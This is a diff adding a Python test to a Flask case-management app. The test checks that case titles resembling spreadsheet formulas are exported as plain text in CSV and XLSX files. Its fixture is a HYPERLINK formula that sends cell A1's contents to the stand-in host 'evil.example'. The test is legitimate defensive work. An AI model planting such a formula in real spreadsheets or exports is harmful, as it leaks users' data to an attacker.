@@ -196,3 +196,18 @@ def test_console_sections_page_on_their_own(browser: Callable[[str], FlaskClient
     assert supervisor.get("/supervision", query_string={"parked_page": "x", "escalated_page": "-1"}).status_code == 200
     for c in made[:3]:
         supervisor_api.post(f"/api/v1/cases/{c['id']}/unpark", json={"reason": "管线单位已完工"})
+
+
+def test_a_title_that_looks_like_a_formula_stays_text(browser: Callable[[str], FlaskClient],
+                                                      make_case: Callable[..., dict[str, Any]]) -> None:
+    word = "公式" + uuid.uuid4().hex[:6]
+    evil = f'=HYPERLINK("http://evil.example/?"&A1,"{word}")'
+    made = make_case(title=evil)
+    operator = browser("demo_operator")
+    rows = csv_rows(operator.get("/cases/export.csv", query_string={"q": word}))
+    assert [r[:2] for r in rows[1:]] == [[made["number"], "'" + evil]]
+    r = operator.get("/cases/export.xlsx", query_string={"q": word})
+    assert r.status_code == 200
+    sheet = load_workbook(io.BytesIO(r.data)).active
+    cell = sheet.cell(row=2, column=2)
+    assert cell.value == evil and cell.data_type == "s"  # text, not a formula
